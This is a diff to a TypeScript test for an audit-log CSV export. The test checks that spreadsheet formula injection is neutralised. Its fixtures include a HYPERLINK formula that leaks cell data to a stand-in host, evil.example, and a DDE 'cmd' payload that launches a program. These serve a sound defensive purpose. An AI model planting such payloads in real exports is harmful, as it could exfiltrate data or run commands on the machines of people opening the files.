@@ -2,9 +2,8 @@ import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { registerAgent } from "@/lib/domain/agents/register-agent";
 import { suspendAgent } from "@/lib/domain/agents/set-agent-status";
-import { exportAuditEvents } from "@/lib/domain/audit/export-audit-events";
 import { agentInput, makeOrg } from "@/lib/test/fixtures";
-import { auditExportChunks } from "./audit-export";
+import { exportAuditEvents } from "./export-audit-events";
 
 async function text(chunks: AsyncIterable<string>) {
   let out = "";
@@ -19,8 +18,8 @@ describe("audit CSV export", () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
     await suspendAgent(org.admin, { requestId: "+cmd|' /C calc'!A0", ip: "@SUM(1+1)" }, agent.id, { reason: evil });
 
-    const { format, pages } = await exportAuditEvents(org.auditor, {}, { agentId: agent.id, format: "csv" });
-    const csv = await text(auditExportChunks(format, pages));
+    const { chunks } = await exportAuditEvents(org.auditor, {}, { agentId: agent.id, format: "csv" });
+    const csv = await text(chunks);
     const records = parse(csv, { columns: true }) as Record<string, string>[];
     const suspended = records.find((r) => r.action === "agent.suspended")!;
     expect(suspended.reason).toBe(`'${evil}`);
